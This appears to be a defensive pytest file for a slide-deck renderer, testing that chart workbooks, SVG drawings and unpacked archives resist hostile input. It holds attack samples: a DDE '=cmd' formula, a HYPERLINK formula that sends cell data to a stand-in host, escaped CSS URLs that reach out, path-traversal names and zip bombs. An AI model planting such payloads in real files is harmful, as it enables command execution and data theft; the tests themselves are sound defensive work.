"""What a hostile page leaves in the files that people open, and in the archive that they unpack."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from unit.render import scenes
from warren.cli.commands.render import _save
from warren.domain.errors import RenderFailed
from warren.render.pptx.deck import write_deck
from warren.render.pptx.svg import safe_svg
from warren.render.scene.scene import Deck, Series, Slide

if TYPE_CHECKING:
    from pathlib import Path

_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xhtml"'
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.invalid/"&A1,"x")',
    "{=1+1}",
    "http://evil.invalid/",
    "file:///x",
)


@pytest.fixture(autouse=True)
def _guarded() -> None:
    """No sandbox is attacked here."""


def _unpack(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.mark.parametrize("kind", ["column", "pie", "scatter"])
def test_words_of_a_page_are_no_formulas_in_the_workbook_of_a_chart(kind: str) -> None:
    numbers = (1.0, 2.0, 3.0, 4.0, 5.0)
    series = tuple(Series(name=name, values=numbers, xs=numbers) for name in FORMULAS)
    chart = replace(scenes.chart(kind, series=series), categories=FORMULAS)
    parts = _unpack(write_deck(Deck(slides=(Slide(width=1280, height=720, items=(chart,)),))))
    (workbook,) = [_unpack(part) for name, part in parts.items() if name.endswith(".xlsx")]

    sheet = workbook["xl/worksheets/sheet1.xml"]
    assert b"<f" not in sheet
    assert b"hyperlink" not in sheet
    assert not any(b"evil.invalid" in part for name, part in workbook.items() if name.endswith(".rels"))
    assert b"=cmd|" in workbook["xl/sharedStrings.xml"]


@pytest.mark.parametrize(
    "inside",
    [
        '<rect style="fill:u\\72l(http://evil.invalid)"/>',
        '<rect style="fill:\\000075rl(http://evil.invalid)"/>',
        "<style>@\\69mport 'http://evil.invalid';</style>",
        "<style>rect{background:image-set('http://evil.invalid' 1x)}</style>",
        '<g xml:base="http://evil.invalid/"><use href="#x"/></g>',
        '<x:img srcset="http://evil.invalid 1x"/>',
        '<x:video poster="http://evil.invalid"/>',
        '<x:form action="http://evil.invalid"><x:input/></x:form>',
        "<image href='data:image/svg+xml,&lt;image href=\"http://evil.invalid\"/&gt;'/>",
    ],
)
def test_a_drawing_reaches_nowhere_in_whatever_letters_it_is_written(inside: str) -> None:
    kept = safe_svg(f"<svg {_SVG}><path d='M0 0h9'/>{inside}</svg>".encode())

    assert kept is not None
    assert b"evil.invalid" not in kept
    assert b"M0 0h9" in kept


def test_a_drawing_keeps_what_refers_to_itself() -> None:
    kept = safe_svg(f"""<svg {_SVG}><rect fill="url('#a')" style='clip-path:url( "#b" )'/></svg>""".encode())

    assert kept is not None
    assert b"#a" in kept
    assert b"#b" in kept


def _archive(members: dict[str, bytes], how: int = zipfile.ZIP_STORED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return made.getvalue()


def test_only_previews_come_out_of_an_archive_and_only_where_they_belong(tmp_path: Path) -> None:
    names = ["../out.png", "/tmp/warren-out.png", "slides/../../out.png", "slides/x/slide_001.png", ".png", "logo.png"]
    members = dict.fromkeys([*names, "slides/slide_001.png\n", "slides/slide_١٢٣.png"], b"hostile")
    archive = _archive({**members, "a.pptx": b"deck", "slides/slide_001.png": b"picture"})
    _save(archive, str(tmp_path / "out.pptx"), str(tmp_path / "previews"))

    found = {str(path.relative_to(tmp_path)): path.read_bytes() for path in tmp_path.rglob("*") if path.is_file()}
    assert found == {"out.pptx": b"deck", "previews/slide_001.png": b"picture"}


def _encrypted() -> bytes:
    archive = bytearray(_archive({"a.pptx": b"deck"}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        archive[archive.index(mark) + at] |= 1
    return bytes(archive)


@pytest.mark.parametrize(
    "archive",
    [
        b"",
        b"not an archive",
        _archive({"a.txt": b"no deck"}),
        _archive({"a.pptx": bytes(50_000_000)}, zipfile.ZIP_DEFLATED),
        _archive(
            {"a.pptx": b"x", **{f"slides/slide_{n:03d}.png": bytes(900) for n in range(300)}}, zipfile.ZIP_DEFLATED
        ),
        _encrypted(),
    ],
    ids=["nothing", "garbage", "no deck", "a bomb", "many small bombs", "encrypted"],
)
def test_an_archive_that_is_none_is_refused_and_nothing_is_written(archive: bytes, tmp_path: Path) -> None:
    with pytest.raises(RenderFailed):
        _save(archive, str(tmp_path / "out.pptx"), str(tmp_path / "previews"))

    assert list(tmp_path.iterdir()) == []
